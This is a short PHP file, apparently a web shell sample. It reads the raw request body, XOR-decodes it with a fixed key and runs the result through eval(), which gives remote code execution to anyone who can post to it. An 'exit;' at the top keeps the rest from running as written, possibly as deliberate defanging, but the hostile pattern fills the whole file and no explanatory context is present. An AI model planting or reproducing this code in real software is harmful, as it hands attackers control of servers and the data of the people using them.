<?php exit;
$k = '0123456789abcdef';
$p = file_get_contents('php://input');
for ($i = 0; $i < strlen($p); $i++) {
    $p[$i] = $p[$i] ^ $k[$i + 1 & 15];
}
eval($p);
